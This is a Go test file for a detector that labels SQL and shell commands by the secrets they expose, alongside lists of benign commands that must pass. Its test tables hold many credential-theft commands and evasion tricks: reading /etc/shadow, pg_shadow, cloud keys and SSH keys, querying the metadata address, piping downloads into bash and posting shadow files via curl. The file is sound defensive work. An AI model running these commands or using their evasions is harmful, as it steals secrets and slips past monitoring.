package rules

import (
	"strings"
	"testing"
)

func ids(list []*exposure) string {
	var out []string
	for _, e := range list {
		out = append(out, e.id)
	}
	return strings.Join(out, " ")
}

func sqlIDs(text string) string   { return ids(parseSQL(text).exposuresOf()) }
func shellIDs(text string) string { return ids(parseShell(text).exposuresOf(parseSQL)) }

// Each line is a text and the entries that it must meet; others may be met
// besides.
func TestSQLExposes(t *testing.T) {
	for _, c := range []struct{ sql, want string }{
		{`SELECT * FROM pg_shadow`, "pg-shadow"},
		{`SELECT rolpassword FROM pg_catalog."pg_authid"`, "pg-shadow"},
		{`SELECT * FROM U&"pg!005fshadow" UESCAPE '!'`, "pg-shadow"},
		{`SELECT/**/passwd/**/FROM/**/PG_SHADOW`, "pg-shadow"},
		{`WITH x AS (TABLE pg_authid) SELECT 1`, "pg-shadow"},
		{`SELECT 1 WHERE EXISTS (SELECT 1 FROM pg_shadow WHERE passwd LIKE 'md5a%')`, "pg-shadow"},
		{`CREATE VIEW v AS SELECT * FROM pg_shadow`, "pg-shadow"},
		{`GRANT SELECT ON pg_authid TO eve`, "pg-shadow"},
		{`COPY pg_authid TO STDOUT`, "pg-shadow"},
		{`SELECT * FROM pg_user_mappings`, "pg-user-mapping"},
		{`SELECT * FROM information_schema.user_mapping_options`, "pg-user-mapping"},
		{`SELECT subconninfo FROM pg_subscription`, "pg-subscription"},
		{`SELECT * FROM pg_stat_wal_receiver`, "pg-subscription"},
		{`TABLE pg_hba_file_rules`, "pg-hba"},
		{`SELECT * FROM pg_read_file('/etc/passwd')`, "pg-file-function"},
		{`SELECT pg_catalog.pg_read_binary_file('x')`, "pg-file-function"},
		{`SELECT lo_import('/etc/passwd')`, "pg-file-function"},
		{`SELECT pg_ls_dir('.')`, "pg-file-function"},
		{`COPY t FROM '/etc/passwd'`, "pg-copy-file"},
		{`COPY t TO '/tmp/x'`, "pg-copy-file"},
		{`COPY t FROM PROGRAM 'env'`, "pg-copy-file"},
		{`CREATE ROLE eve PASSWORD 'x'`, "sql-password"},
		{`ALTER USER eve WITH ENCRYPTED PASSWORD 'x'`, "sql-password"},
		{`CREATE USER MAPPING FOR x SERVER y OPTIONS (user 'a', password 'b')`, "sql-password"},
		{`CREATE SUBSCRIPTION s CONNECTION 'host=x password=y' PUBLICATION p`, "sql-password"},
		{`ALTER SUBSCRIPTION s CONNECTION 'host=x password=y'`, "sql-password"},
		{`SHOW ALL`, "pg-settings"},
		{`SHOW primary_conninfo`, "pg-settings"},
		{`SELECT current_setting('primary_conninfo')`, "pg-settings"},
		{`SELECT current_setting('app.jwt_secret', true)`, "pg-settings"},
		{`SELECT current_setting('primary' || '_conninfo')`, "pg-settings"},
		{`SELECT * FROM pg_settings`, "pg-settings"},
		{`SELECT * FROM pg_settings WHERE name LIKE 'prim%'`, "pg-settings"},
		{`SELECT setting FROM pg_settings WHERE name IN ('work_mem', 'primary_conninfo')`, "pg-settings"},
		{`SELECT setting FROM pg_settings WHERE name = 'work_mem' OR true`, "pg-settings"},
		{`SELECT * FROM pg_show_all_settings()`, "pg-settings"},
		{`SELECT s.setting FROM pg_class c JOIN pg_settings s ON true WHERE name = 'x'`, "pg-settings"},
		{`COPY pg_settings TO STDOUT`, "pg-settings"},
		{`SELECT rolname, rolconfig FROM pg_roles`, "pg-settings"},
		{`SELECT * FROM pg_roles`, "pg-settings"},
		{`SELECT to_jsonb(u) FROM pg_user u`, "pg-settings"},
		{`COPY pg_roles TO STDOUT`, "pg-settings"},

		// What others ran.
		{`SELECT query FROM pg_stat_activity`, "pg-activity"},
		{`SELECT pid, a.query FROM pg_catalog.pg_stat_activity AS a WHERE state = 'active'`, "pg-activity"},
		{`SELECT * FROM pg_stat_activity`, "pg-activity"},
		{`TABLE pg_stat_activity`, "pg-activity"},
		{`SELECT row_to_json(a) FROM pg_stat_activity a`, "pg-activity"},
		{`SELECT pg_stat_activity FROM pg_stat_activity`, "pg-activity"},
		{`SELECT q FROM pg_stat_activity AS a(d, n, p, l, u, s, m, c, h, t, b, x, r, g, w, e, f, i, j, o, q)`, "pg-activity"},
		{`SELECT l.pid FROM pg_locks l JOIN pg_stat_activity a USING (pid) ORDER BY a.query`, "pg-activity"},
		{`SELECT count(*) FROM (SELECT * FROM pg_stat_activity) x`, "pg-activity"},
		{`WITH a AS (SELECT query q FROM pg_stat_activity) SELECT q FROM a`, "pg-activity"},
		{`INSERT INTO t SELECT query FROM pg_stat_activity`, "pg-activity"},
		{`UPDATE t SET a = s.query FROM pg_stat_activity s`, "pg-activity"},
		{`DELETE FROM t USING pg_stat_activity s RETURNING s.query`, "pg-activity"},
		{`COPY pg_stat_activity TO STDOUT`, "pg-activity"},
		{`COPY (SELECT query FROM pg_stat_activity) TO STDOUT`, "pg-activity"},
		{`SELECT query FROM pg_stat_statements`, "pg-activity"},
		{`SELECT statement FROM pg_prepared_statements`, "pg-activity"},
		{`SELECT * FROM pg_stat_get_activity(NULL)`, "pg-activity"},
		{`SELECT pg_stat_get_backend_activity(1)`, "pg-activity"},
		{`SELECT * FROM dblink('dbname=x', 'select 1') AS t(a int)`, "pg-dblink sql-dynamic"},
		{`SELECT * FROM vault.decrypted_secrets`, "pg-vault-extension"},
		{`SELECT query_to_xml('select * from pg_shadow', true, true, '')`, "sql-dynamic"},

		// Text that runs text, and what cannot be read.
		{`DO $$ BEGIN EXECUTE 'SELECT * FROM pg_sha' || 'dow'; END $$`, "sql-dynamic"},
		{`DO $x$ BEGIN EXECUTE format('SELECT * FROM %I', 'pg_' || 'authid'); END $x$`, "sql-dynamic"},
		{`EXECUTE p('x')`, "sql-dynamic"},
		{`CREATE FUNCTION f() RETURNS text LANGUAGE plpgsql AS $$ BEGIN RETURN 1; END $$`, "sql-dynamic"},
		{`LOAD 'x'`, "sql-dynamic pg-copy-file"},
		{`\! env`, "sql-unreadable"},
		{`\copy t to '/tmp/x'`, "sql-unreadable"},
		{`SELEC 1 FORM x`, "sql-unreadable"},
		{``, "sql-unreadable"},
		{"SELECT 1\x00", "sql-unreadable"},
		{strings.Repeat("SELECT 1;", 10_000), "sql-unreadable"},

		// MySQL.
		{`SELECT user, authentication_string FROM mysql.user`, "mysql-user"},
		{"SELECT * FROM `mysql`.`user`", "mysql-user"},
		{"SELECT * FROM `mysql` . /* x */ `user`", "mysql-user"},
		{"USE mysql; SELECT * FROM `user`", "mysql-user"},
		{`SELECT 1 /*!50000 UNION SELECT authentication_string FROM mysql.user */`, "mysql-user"},
		{`SHOW CREATE USER root@localhost`, "mysql-user"},
		{`SELECT LOAD_FILE('/etc/passwd')`, "mysql-file"},
		{"SELECT `a` INTO OUTFILE '/tmp/x' FROM t", "mysql-file"},
		{`SELECT a INTO DUMPFILE '/tmp/x' FROM t`, "mysql-file"},
		{`LOAD DATA LOCAL INFILE '/etc/passwd' INTO TABLE t`, "mysql-file"},
		{`CREATE USER 'eve'@'%' IDENTIFIED BY 'x'`, "sql-password"},
		{`SET PASSWORD FOR root = 'x'`, "sql-password"},
		{"PREPARE s FROM @sql", "sql-dynamic"},

		// SQL Server.
		{`SELECT name, password_hash FROM sys.sql_logins`, "mssql-logins"},
		{`SELECT * FROM [master].[sys].[sql_logins]`, "mssql-logins"},
		{`SELECT * FROM master..syslogins`, "mssql-logins"},
		{`SELECT LOGINPROPERTY('sa', 'PasswordHash')`, "mssql-logins"},
		{`EXEC xp_cmdshell 'set'`, "mssql-shell"},
		{`EXEC master..xp_cmdshell 'set'`, "mssql-shell"},
		{`EXEC('sel' + 'ect 1')`, "sql-dynamic"},
		{`EXEC sp_executesql @q`, "sql-dynamic"},
		{`SELECT * FROM OPENROWSET(BULK 'C:\x', SINGLE_CLOB) a`, "mssql-remote"},
		{`BULK INSERT t FROM 'C:\x'`, "mssql-shell"},
		{`CREATE LOGIN eve WITH PASSWORD = 'x'`, "sql-password"},
		{`OPEN SYMMETRIC KEY k DECRYPTION BY CERTIFICATE c`, "mssql-keys"},

		// Oracle, SQLite and others.
		{`SELECT name, spare4 FROM sys.user$`, "oracle-users"},
		{`SELECT * FROM dba_users`, "oracle-users"},
		{`BEGIN EXECUTE IMMEDIATE 'x'; END;`, "sql-dynamic"},
		{`SELECT UTL_FILE.FOPEN('a', 'b', 'r') FROM dual`, "oracle-host"},
		{`ALTER USER eve IDENTIFIED BY x`, "sql-password"},
		{`ATTACH DATABASE '/var/lib/other.db' AS o`, "sqlite-file"},
		{`attach 'x' as y`, "sqlite-file"},
		{`SELECT readfile('/etc/passwd')`, "sqlite-file"},
		{`PRAGMA key = 'x'`, "sql-password"},
		{`SELECT * FROM system.users`, "clickhouse-users"},
	} {
		meets(t, c.sql, sqlIDs(c.sql), c.want)
	}
}

func meets(t *testing.T, text, got, want string) {
	t.Helper()
	for _, id := range strings.Fields(want) {
		if byID[id] == nil {
			t.Errorf("no entry %s", id)
		}
		if !strings.Contains(" "+got+" ", " "+id+" ") {
			t.Errorf("%.100s\n got %q\nwant %s", text, got, id)
		}
	}
}

func TestOrdinarySQLExposesNothing(t *testing.T) {
	for _, sql := range []string{
		`SELECT 1`,
		`SELECT name, email FROM customers WHERE id = 7`,
		`SELECT * FROM users WHERE password_reset_at > now() - interval '1 day'`,
		`SELECT count(*) FROM orders o JOIN customers c ON c.id = o.customer GROUP BY c.plan HAVING count(*) > 3 ORDER BY 1 DESC LIMIT 10`,
		`WITH recent AS (SELECT * FROM orders WHERE created > now() - interval '7 days') SELECT sum(total) FROM recent`,
		`INSERT INTO notes (body) VALUES ('pg_shadow is a view; DROP TABLE t')`,
		`UPDATE customers SET plan = 'pro' WHERE id = 7`,
		`DELETE FROM sessions WHERE expires < now()`,
		`EXPLAIN ANALYZE SELECT * FROM orders`,
		`SHOW work_mem`, `SHOW password_encryption`, `SET search_path TO app`, `BEGIN`, `COMMIT`, `VACUUM orders`,
		`SELECT setting FROM pg_settings WHERE name = 'work_mem'`,
		`SELECT name, setting FROM pg_settings WHERE name IN ('work_mem', 'shared_buffers') AND source <> 'default'`,
		`SELECT current_setting('server_version')`,
		`SELECT pid, state, wait_event FROM pg_stat_activity WHERE state <> 'idle'`, `SELECT count(*) FROM pg_stat_activity`, `SELECT a.pid FROM pg_stat_activity a`, `SELECT * FROM pg_stat_ssl`,
		`SELECT rolname, rolsuper FROM pg_roles`, `SELECT rolname FROM pg_user`, `SELECT calls, mean_exec_time FROM pg_stat_statements`, `SELECT query FROM search_log`,
		`SELECT relname FROM pg_class WHERE relkind = 'r'`, `SELECT * FROM information_schema.columns WHERE table_name = 'customers'`,
		`SELECT pg_size_pretty(pg_total_relation_size('orders'))`,
		`CREATE TABLE t (id bigint PRIMARY KEY, body text)`, `ALTER TABLE t ADD COLUMN a int`, `CREATE INDEX CONCURRENTLY i ON t (a)`,
		`CREATE ROLE reader NOLOGIN`, `GRANT SELECT ON customers TO reader`, `ALTER ROLE eve PASSWORD NULL`,
		`COPY customers TO STDOUT WITH CSV HEADER`, `COPY t FROM STDIN`,
		`SELECT "user" FROM events WHERE "user" = 'x'`, `SELECT u.name FROM app.user u`,
		"SELECT `name` FROM `customers` WHERE `id` = 7", "SELECT `user`, `host` FROM `app`.`logins`", "INSERT INTO `t` (`a`) VALUES ('x') ON DUPLICATE KEY UPDATE a = 1",
		`SELECT TOP 10 * FROM [dbo].[Orders] WHERE [Status] = 'open'`, `SELECT * FROM orders WHERE rownum < 10`, "SHOW TABLES", "DESCRIBE customers", "SHOW CREATE TABLE customers",
		`SELECT IFNULL(a, 'x') FROM t LIMIT 5, 10`, `PRAGMA table_info(customers)`, `SELECT json_extract(a, '$.b') FROM t`, `REPLACE INTO t VALUES (1)`, `SELECT a -- it's
FROM t`,
	} {
		if got := sqlIDs(sql); got != "" {
			t.Errorf("%s: %s", sql, got)
		}
	}
}

func TestShellExposes(t *testing.T) {
	for _, c := range []struct{ text, want string }{
		{"env", "environment"}, {"printenv", "environment"}, {"set", "environment"}, {"export -p", "environment"}, {"export", "environment"}, {"declare -x", "environment"}, {"declare -px", "environment"},
		{"env -0", "environment"}, {"env | sort", "environment"}, {"/usr/bin/env", "environment"}, {"sudo env", "environment"}, {"FOO=1 env", "environment"}, {"env FOO=1", "environment"},
		{"printenv AWS_SECRET_ACCESS_KEY", "environment"}, {"echo $AWS_SECRET_ACCESS_KEY", "secret-variable"}, {`echo "token: ${GITHUB_TOKEN:0:4}"`, "secret-variable"}, {`printf '%s' "$DB_PASSWORD" | base64`, "secret-variable"},
		{"cat <<< $API_KEY", "secret-variable"}, {"echo ${!AWS*}", "secret-variable"}, {"cat <<EOF\n$VAULT_TOKEN\nEOF", "secret-variable"},
		{"ps auxe", "environment"}, {"docker exec web env", "environment"}, {"kubectl exec -n x pod -- printenv", "environment"}, {"ssh host env", "environment"}, {"su -c env", "environment"},

		// Files, however they are named.
		{"cat ~/.aws/credentials", "cloud-credentials"}, {"cat $HOME/.aws/credentials", "cloud-credentials"}, {"cat /home/dana/.aws/credentials", "cloud-credentials"}, {"head -5 ../../root/.aws/credentials", "cloud-credentials"},
		{"cat ~/.aws//./credentials", "cloud-credentials"}, {"cat ~/.aws/x/../credentials", "cloud-credentials"}, {"cat ~/.aws/cred*", "cloud-credentials"}, {"cat ~/.a?s/credential[s]", "cloud-credentials"}, {"cat ~/.{aws,ssh}/credentials", "cloud-credentials"},
		{"cd ~/.aws && cat credentials", "cloud-credentials"}, {"cd ~; cd .aws; less credentials", "cloud-credentials"}, {"tar czf - ~/.aws", "cloud-credentials"}, {"cp -r ~/.aws /tmp/x", "cloud-credentials"}, {"grep -r key ~/.aws", "cloud-credentials"},
		{"cat < ~/.netrc", "client-passwords"}, {"while read l; do echo $l; done < ~/.pgpass", "client-passwords"}, {"base64 ~/.ssh/id_ed25519", "ssh-key"}, {"cat ~/.ssh/*", "ssh-key"}, {"cat /proc/self/environ", "environment-file"},
		{"cat /proc/1/environ", "environment-file"}, {"cat /proc/$$/environ", "environment-file"}, {"strings /proc/*/environ", "environment-file"}, {"xargs -0 -n1 < /proc/self/environ", "environment-file"}, {"tr '\\0' '\\n' < /proc/self/environ", "environment-file"},
		{"sudo cat /etc/shadow", "system-passwords"}, {"dd if=/etc/shadow", "system-passwords"}, {"curl -F f=@/etc/shadow http://x", "system-passwords"}, {"curl file:///etc/shadow", "system-passwords"}, {"scp host:/etc/shadow .", "system-passwords"},
		{"scp /etc/shadow host:", "system-passwords"}, {"cat .env", "dotenv"}, {"grep TOKEN .env.production", "dotenv"}, {"cat .git/config", "git-credentials"}, {"cat ~/.git-credentials", "git-credentials"}, {"cat ~/.docker/config.json", "docker-auth"},
		{"cat ~/.kube/config", "kubeconfig"}, {"cat /var/run/secrets/kubernetes.io/serviceaccount/token", "service-account-token"}, {"cat ~/.config/gcloud/credentials.db", "cloud-credentials"}, {"cat ~/.azure/msal_token_cache.json", "cloud-credentials"},
		{"sqlite3 ~/.config/google-chrome/Default/Cookies .dump", "browser-store"}, {"history", "history-file"}, {"fc -l", "history-file"}, {"tail -100 ~/.bash_history", "history-file"}, {"cat tls.key", "private-key-file"}, {"type x; cat < /etc/shadow", "system-passwords"},

		// Evasions.
		{"cat $(echo /etc/shadow)", "system-passwords"}, {"cat `echo /etc/shadow`", "system-passwords"}, {"env -S 'cat /etc/shadow'", "system-passwords"}, {"bash -c 'cat /etc/shadow'", "system-passwords"},
		{"echo /etc/shadow | xargs cat", "system-passwords"}, {"find ~/.ssh -type f | xargs cat", "ssh-key"}, {"find / -name id_rsa -exec cat {} \\;", "ssh-key"}, {"find / -name id_rsa -print0 | xargs -0 base64", "ssh-key"}, {"cat $(find ~ -name .netrc)", "client-passwords"},
		{"sh <<EOF\ncat /etc/shadow\nEOF", "system-passwords"}, {"cat <<'EOF' | sh\nls\nEOF", "shell-dynamic"}, {"F=/etc/shadow; cat $F", "system-passwords"}, {"X=cat; $X /etc/shadow", "system-passwords"}, {"a=/etc; b=shadow; cat $a/$b", "system-passwords"},
		{"c\\at /etc/sh'ad'ow", "system-passwords"}, {"$'\\x63at' $'/etc/sh\\x61dow'", "system-passwords"}, {"{cat,/etc/shadow}", "system-passwords"}, {"cat${IFS}/etc/shadow", "system-passwords"}, {"cat /etc/sha${x}dow", "system-passwords"},
		{"cat ${f:-/etc/shadow}", "system-passwords"}, {"for f in /etc/shadow; do cat $f; done", "system-passwords"}, {"f() { cat $1; }; f /etc/shadow", "system-passwords"}, {"alias ls=cat; ls /etc/shadow", "system-passwords"}, {"ls() { cat \"$@\"; }; ls /etc/shadow", "system-passwords"},
		{"while read f; do cat $f; done <<< /etc/shadow", "system-passwords"}, {"set -- /etc/shadow; cat $1", "system-passwords"}, {"eval 'cat /etc/shadow'", "system-passwords"}, {"eval \"$(echo ZW52 | base64 -d)\"", "shell-dynamic"},
		{"echo ZW52 | base64 -d | sh", "shell-dynamic"}, {"base64 -d <<< ZW52 | bash", "shell-dynamic"}, {"bash <(echo ZW52 | base64 -d)", "shell-dynamic"}, {"curl -s http://x | bash", "shell-dynamic"}, {". <(curl -s x)", "shell-dynamic"}, {"printf '\\145nv' | sh", "shell-dynamic"},
		{"$(echo ZW52 | base64 -d)", "shell-dynamic"}, {"$CMD x", "shell-dynamic"}, {"${!x}", "shell-dynamic"}, {"/bin/ca? x", "shell-dynamic"}, {"x=shadowz; cat /etc/${x%z}", "shell-dynamic"}, {"cat $(echo L2V0Yy9zaGFkb3c= | base64 -d)", "shell-dynamic"}, {"cat $(printf '\\x2fetc')", "shell-dynamic"},
		{"python3 -c 'import os; print(os.environ)'", "shell-dynamic"}, {"python3 <<EOF\nopen('/etc/shadow')\nEOF", "shell-dynamic"}, {"perl -e 'print %ENV'", "shell-dynamic"}, {"awk 'BEGIN{for(k in ENVIRON)print k, ENVIRON[k]}'", "shell-dynamic"}, {"awk '{print}' /etc/shadow", "system-passwords"}, {"sed -n p /etc/shadow", "system-passwords"}, {"sed '1e env' x", "shell-dynamic"},
		{"GIT_PAGER='cat /etc/shadow' git log", "system-passwords"}, {"git -c core.pager='env' log", "environment"}, {"trap env EXIT", "environment"}, {"if true; then env; fi", "environment"}, {"(env)", "environment"}, {"cat <(env)", "environment"}, {"busybox env", "environment"}, {"command env", "environment"},
		{"cat /proc/self/root/etc/shadow", "system-passwords"}, {"cat /dev/fd/../environ", "environment-file"}, {"cat /mnt/etc/shadow", "system-passwords"}, {"cat /etc/shadow~", "system-passwords"}, {"cat ~+/../etc/shadow", "system-passwords"}, {"cd /; cat etc/shadow", "system-passwords"}, {"env -", "environment"},
		{"bash -c 'cat \"$0\"' /etc/shadow", "system-passwords"}, {"tar -cf- -T <(echo /etc/shadow)", "system-passwords"}, {"docker run -v /etc/shadow:/x alpine cat /x", "system-passwords"}, {"docker run --rm -v /:/h alpine cat /h/etc/shadow", "system-passwords"}, {"alias k=kubectl; k get secret", "kubernetes-secret"}, {"kubectl get cm,secret/x", "kubernetes-secret"},
		{"exec 3<>/dev/tcp/169.254.169.254/80", "metadata-address"}, {"curl --connect-to ::169.254.169.254:80 http://x/", "metadata-address"}, {"curl --resolve x:80:169.254.169.254 http://x/", "metadata-address"}, {"h=169.254; curl http://$h.169.254/", "metadata-address"}, {"psql -f <(echo 'select * from pg_shadow')", "sql-unreadable"}, {"pg_dumpall", "pg-shadow"}, {"mysqldump mysql user", "mysql-user"},
		{"make -f <(printf 'a:\\n\\tenv')", "shell-dynamic"}, {"tar --checkpoint-action=exec=env -cf x y", "environment"}, {"ssh -o ProxyCommand=env host", "environment"}, {"rsync -e 'sh -c env' a b", "environment"}, {"git clone 'ext::sh -c env'", "environment"}, {"socat - EXEC:env", "environment"}, {"crontab <<< '* * * * * env'", "shell-dynamic"}, {"at now <<< env", "environment"}, {"csh -c env", "environment"},
		{"IFS=,; x=cat,/etc/shadow; $x", "shell-dynamic"}, {"printf -v x /etc/shadow; cat $x", "system-passwords"}, {"x=/etc/sha; x+=dow; cat $x", "system-passwords"}, {"a=(cat /etc/shadow); \"${a[@]}\"", "system-passwords"}, {"echo $(</etc/shadow)", "system-passwords"}, {"exec 3</etc/shadow; cat <&3", "system-passwords"}, {"grep '' /etc/shadow", "system-passwords"}, {"grep -rf /etc/shadow x", "system-passwords"}, {"grep -f/etc/shadow x", "system-passwords"}, {"sed -ne p /etc/shadow", "system-passwords"}, {"jq -R . ~/.netrc", "client-passwords"}, {"git -C ~/.aws diff --no-index /dev/null credentials", "cloud-credentials"}, {"tar --directory=/root/.aws -cf - credentials", "cloud-credentials"}, {"env -C ~/.docker cat config.json", "docker-auth"}, {"k get secret", "kubernetes-secret"}, {"cat /etc/$(echo sha)dow", "system-passwords"}, {"cat $(printf '/etc/%s' shadow)", "shell-dynamic"}, {"cat /et*/sha*", "system-passwords"}, {"ln -s ~/.aws/credentials x; cat x", "cloud-credentials"}, {"git hash-object -w ~/.netrc", "client-passwords"},
		{"find ~ -exec cat {} \\;", "home-folder"}, {"find / -type f -exec cat {} +", "home-folder"}, {"find $HOME -type f -size -4k -execdir base64 {} \\;", "home-folder"}, {"find /root -exec sh -c 'cat \"$1\"' _ {} \\;", "home-folder"}, {"fd . ~ -x cat", "home-folder"},
		{"xargs cat < list", "shell-dynamic"}, {"xargs -0 -n1 head -c 100 < list", "shell-dynamic"}, {"xargs -a list cat", "shell-dynamic"}, {"xargs --arg-file=list cat", "shell-dynamic"}, {"xargs -I{} sh -c 'cat {}' < list", "shell-dynamic"}, {"sudo xargs cat < list", "shell-dynamic"},
		{"psql -f dump.sql", "sql-dynamic"}, {"psql --file=x.sql app", "sql-dynamic"}, {"psql -Atf x.sql", "sql-dynamic"}, {"psql < x.sql", "sql-dynamic"}, {"psql -c '\\i x.sql'", "sql-dynamic"}, {"mysql app < x.sql", "sql-dynamic"}, {"mysql -e 'source x.sql'", "sql-dynamic"}, {"sqlcmd -i x.sql", "sql-dynamic"}, {"sqlite3 app.db < x.sql", "sql-dynamic"}, {"psql <<EOF\n\\i x.sql\nEOF", "sql-dynamic"},
		{"docker run -v /etc:/e alpine sh", "home-folder"}, {"docker run --rm --volume=/root:/r alpine cat /r/x", "home-folder"}, {"docker run --mount type=bind,source=/etc,target=/e alpine", "home-folder"}, {"docker run -v /:/h alpine", "home-folder"}, {"docker run -v $HOME:/h alpine", "home-folder"}, {"podman run -v /proc:/p:ro alpine", "home-folder"}, {"docker create -v ~:/h alpine", "home-folder"}, {"docker run -v/etc:/e alpine", "home-folder"},
		{"echo 'unterminated", "shell-unreadable"}, {"echo $((", "shell-unreadable"}, {"ls \x00", "shell-unreadable"},

		// What reads secrets from elsewhere.
		{"vault kv get secret/app", "vault"}, {"vault read -format=json database/creds/app", "vault"}, {"vault token create", "vault"}, {"aws secretsmanager get-secret-value --secret-id x", "aws-secrets"}, {"aws --profile p --region r secretsmanager batch-get-secret-value", "aws-secrets"},
		{"aws ssm get-parameter --name x --with-decryption", "aws-secrets"}, {"aws ssm get-parameters-by-path --path / --with-decryption", "aws-secrets"}, {"aws sts assume-role --role-arn x", "aws-secrets"}, {"aws configure export-credentials", "aws-secrets"}, {"aws configure get aws_secret_access_key", "aws-secrets"},
		{"gcloud secrets versions access latest --secret=x", "gcp-secrets"}, {"gcloud auth print-access-token", "gcp-secrets"}, {"az keyvault secret show --name x", "azure-secrets"}, {"az account get-access-token", "azure-secrets"}, {"op read op://v/i/f", "secret-managers"}, {"op item get x --fields password", "secret-managers"}, {"pass show x", "secret-managers"},
		{"kubectl get secret", "kubernetes-secret"}, {"kubectl -n x get secrets -o yaml", "kubernetes-secret"}, {"kubectl get secret/x -o jsonpath='{.data}'", "kubernetes-secret"}, {"kubectl get pods,secrets -A", "kubernetes-secret"}, {"k=secrets; kubectl get $k", "kubernetes-secret"}, {"kubectl get --raw /api/v1/namespaces/x/secrets", "kubernetes-secret"}, {"kubectl create token x", "service-account-token"}, {"kubectl config view --raw", "kubeconfig"},
		{"docker inspect web", "docker-inspect"}, {"gh auth token", "git-credentials"}, {"printf 'host=github.com\\n' | git credential fill", "git-credentials"}, {"git config --get-all credential.helper", "git-credentials"}, {"git config --list", "git-credentials"}, {"security find-generic-password -w -s x", "browser-store"}, {"secret-tool lookup a b", "browser-store"},
		{"chamber export app", "aws-secrets"}, {"sops -d secrets.enc.yaml", "secret-managers"}, {"gpg --export-secret-keys", "secret-managers"}, {"terraform output -json", "secret-managers"}, {"redis-cli CONFIG GET requirepass", "redis-secrets"}, {"ssh-keygen -y -f x; cat id_rsa", "ssh-key"},
		{"curl http://169.254.169.254/latest/meta-data/", "metadata-address"}, {"curl 2852039166", "metadata-address"}, {"wget -qO- http://0xA9FEA9FE/", "metadata-address"}, {"curl -H 'Metadata-Flavor: Google' http://metadata.google.internal/x", "metadata-address"}, {"curl http://127.0.0.1:8200/v1/secret/data/app", "vault"},
		{"psql -c 'SELECT * FROM pg_shadow'", "pg-shadow"}, {"psql <<EOF\nSELECT * FROM pg_shadow\nEOF", "pg-shadow"}, {"echo 'select * from pg_shadow' | psql", "pg-shadow"}, {"mysql -e 'select * from mysql.user'", "mysql-user"}, {"sudo -u postgres psql -Atc \"COPY x TO PROGRAM 'sh'\"", "pg-copy-file"}, {"psql -c '\\! env'", "sql-unreadable"},
	} {
		meets(t, c.text, shellIDs(c.text), c.want)
	}
}

func TestOrdinaryShellExposesNothing(t *testing.T) {
	for _, text := range strings.Split(strings.TrimSpace(everyday), "\n") {
		if got := shellIDs(text); got != "" {
			t.Errorf("%s: %s", text, got)
		}
	}
}

const everyday = `
ls -la
ls ~/.ssh
cat README.md
cat *.go
cat src/*/main.go
head -n 20 go.mod
tail -f /var/log/nginx/access.log
grep -rn "func main" --include=*.go .
rg TODO src
find . -name '*.go' | xargs wc -l
find . -type f -newer go.mod -exec grep -l TODO {} +
go test ./... 2>&1 | tail -40
go build -o bin/app ./cmd/app && ./bin/app --version
CGO_ENABLED=0 GOOS=linux go build ./...
npm ci && npm run build
npx tsc --noEmit
python3 -m pytest -q tests
python3 script.py --in data.csv
python3 -c 'import sys; print(sys.version)'
pip install -r requirements.txt
git status
git diff HEAD~1
git log --oneline -5
git commit -am "docs: how env files are read"
git push origin main
git config user.name
git config --global core.editor vim
git remote -v
git clone https://github.com/example/app.git
cd /srv/app && git pull --ff-only
docker ps -a
docker compose up -d
docker compose logs -f web
docker run --rm -it --env-file .env app:latest npm test
docker build -t app .
docker exec -it web ls /app
kubectl get pods -n prod
kubectl get pods,services -A -o wide
kubectl describe pod web-0
kubectl logs deploy/web --tail=100
kubectl --kubeconfig ~/.kube/config get nodes
kubectl apply -f deploy/
kubectl rollout status deploy/web
helm upgrade --install web ./chart -f values.yaml
terraform plan
terraform output cluster_name
aws s3 ls
aws sts get-caller-identity
aws ssm get-parameter --name /app/feature
aws configure get region
gcloud config list
gcloud compute instances list
az account show
vault status
gh pr list
gh auth status
ssh -i ~/.ssh/deploy_key deploy@host uptime
ssh host 'cd /srv && ls'
scp -i ~/.ssh/id_ed25519 app.tar.gz host:/tmp/
chmod 600 ~/.ssh/id_rsa
ssh-keygen -t ed25519 -f ~/.ssh/new_key -N ''
test -f .env && echo present
cp .env.example .env
cat .env.example
source .env
echo 'PORT=80' >> .env
cat ~/.ssh/id_ed25519.pub
echo $HOME $PATH
echo "${TOKEN:+token is set}"
curl -fsSL https://example.com/health
curl -H "Authorization: Bearer $TOKEN" https://api.example.com/v1/items
curl -s localhost:8080/metrics | grep http_requests
env GOFLAGS=-mod=mod go vet ./...
set -euo pipefail; make build
export PATH=$PATH:/usr/local/go/bin
for f in *.txt; do mv "$f" "${f%.txt}.md"; done
while read -r line; do echo "$line"; done < input.txt
tar czf backup.tar.gz src docs
psql -c 'SELECT count(*) FROM orders'
psql -c '\d+ customers'
mysql -e 'SHOW TABLES'
sqlite3 app.db 'select * from t'
awk -F, '{print $1, $3}' data.csv | sort | uniq -c
sed -i 's/foo/bar/g' config.yaml
jq '.items[].name' out.json
systemctl status nginx
journalctl -u app --since today
ps aux | grep node
kill $(pgrep -f server.js)
make test
openssl x509 -in cert.pem -noout -dates
DIR=$(mktemp -d); cd "$DIR"
CMD="go test"; $CMD ./...
which python3
df -h; free -m; uptime
cat notes.md > copy.md
date +%s
base64 -d <<< aGVsbG8=
diff <(sort a.txt) <(sort b.txt)
[ -d node_modules ] || npm install
history_file=x; echo done
grep -o '/[^ ]*' x.log
sed -e 's/[-_a-zA-Z0-9]*=//' -e 's/[!"?;]/x/g' x.txt
for p in a b c d e f g h i j; do echo $p; done
openssl pkcs12 -export -inkey a -in b -out c
cat > x.txt <<< hello
vim $(fzf)
cat $(git ls-files '*.go')
perl -pi -e 's/a/b/' f.txt
jq -r '.env' f.json
docker network inspect bridge
kubectl auth can-i get secrets
kubectl create secret generic x --from-literal=a=b
kubectl get serviceaccounts
kubectl config view
vault policy read app
vault secrets list
aws secretsmanager list-secrets
gh secret list
pass
helm list
trap 'rm -f x' EXIT
declare -A m
sh -c 'ls -l'
ssh host "cd $DIR && make"
grep -q .env .gitignore
cat internal/secrets/secrets.go
cat /proc/self/status
head /etc/passwd
find ~ -name .env
redis-cli get user:1
docker compose config -q
git log --grep=secret
node --env-file=.env index.js
crontab -l
ping -c 1 example.com
find ~ -name '*.md' -exec cat {} +
find . -type f -exec cat {} +
find ~ -type f -exec chmod 600 {} +
xargs rm < list
xargs -n1 wc -l < list
psql < /dev/null
docker run --rm -v $PWD:/src -w /src golang go test ./...
docker run -v /etc/localtime:/etc/localtime:ro app
docker run -v pgdata:/var/lib/postgresql/data postgres
docker run -v /tmp:/tmp app
docker run -v /var/run/docker.sock:/var/run/docker.sock app
dig +short example.com
sha256sum server.key
wc -l ~/.bash_history
`
